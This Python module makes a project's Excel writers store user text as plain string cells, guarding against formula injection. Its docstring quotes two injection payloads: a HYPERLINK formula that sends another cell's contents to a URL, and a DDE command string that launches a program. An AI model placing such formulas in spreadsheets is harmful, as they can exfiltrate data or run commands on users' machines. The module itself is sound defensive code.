"""A cell of an Excel file as SiPOK writes it: text people type stays text.

openpyxl decides a cell's type when its value is set (``Cell._bind_value``, behind ``cell.value =``,
``Cell(value=…)``, ``WriteOnlyCell``, ``ws.cell(value=…)`` and ``ws.append``): a str that starts
with "=" becomes a formula, which Excel and LibreOffice compute when the file is opened — a kendala
of ``=HYPERLINK("http://…?"&B5,"Klik")`` sends another cell away, ``=cmd|' /C calc'!A0`` asks to
start a program — and one of Excel's error codes ("#N/A", "#REF!", …) becomes an error value. A
control character a workbook cannot hold makes it raise.

Every Excel writer of SiPOK (``laporan.excel``, ``riwayat.ekspor``, ``impor.templat``) sets its
values through ``isi`` (a cell of an in-memory sheet) or ``baru`` (a new cell for ``ws.append``,
in-memory or write-only): a str is stored as a string cell (data type "s") with its control
characters dropped and nothing else changed; numbers, dates and None are bound by openpyxl as
usual. Text starting with "+", "-" or "@" needs nothing more: a string cell of an .xlsx file is
never evaluated, so no apostrophe is put in front of what the user typed (that guard is CSV's, and
SiPOK writes no CSV). A formula SiPOK made itself would be set on purpose, not through here.
"""

from openpyxl.cell import Cell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles.cell_style import StyleArray
from openpyxl.utils.exceptions import IllegalCharacterError


def isi(cell: Cell, value) -> Cell:
    """Set ``value`` in ``cell``; a str is text, whatever it starts with."""
    if not isinstance(value, str):
        cell.value = value
        return cell
    try:
        cell.value = value
    except IllegalCharacterError:
        cell.value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell.data_type = "s"
    return cell


def baru(ws, value=None, *, style_array: StyleArray | None = None) -> Cell:
    """A new cell of ``ws`` holding ``value``, to pass to ``ws.append`` (a write-only sheet
    writes it as it is, styles included)."""
    return isi(Cell(ws, row=1, column=1, style_array=style_array), value)
